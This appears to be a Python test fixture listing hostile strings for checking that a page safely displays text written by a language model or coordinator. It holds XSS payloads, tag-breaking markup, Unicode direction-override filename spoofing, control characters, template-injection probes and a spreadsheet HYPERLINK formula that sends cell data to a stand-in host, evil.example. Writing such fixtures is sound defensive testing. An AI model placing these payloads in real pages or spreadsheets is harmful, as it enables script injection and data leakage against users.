"""What a language model may write, or a coordinator may call a code, that does something to a careless page."""

HOSTILE = (
    "<script>window.hit = 1</script>",
    '"><img src=x onerror="window.hit = 1">',
    "</script></style></bdi></li></ol><h1>owned</h1>",
    "abc \u202egnp.exe\u202c \u2066x\u2069 \u200f",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "nul \x00 bell \x07 escape \x1b[2J c1 \x9b",
    "{{ 7 * 7 }} {% raw %} $\\frac{1}{0}$ &lt;b&gt;",
    "w" * 200_000,
    "line one\nline two\u2028line three",
    "\ud800 lone, \U000e0041 tag, \ufeff mark, \u00ad shy",
    "<!-- <![CDATA[ ]]> -->",
)
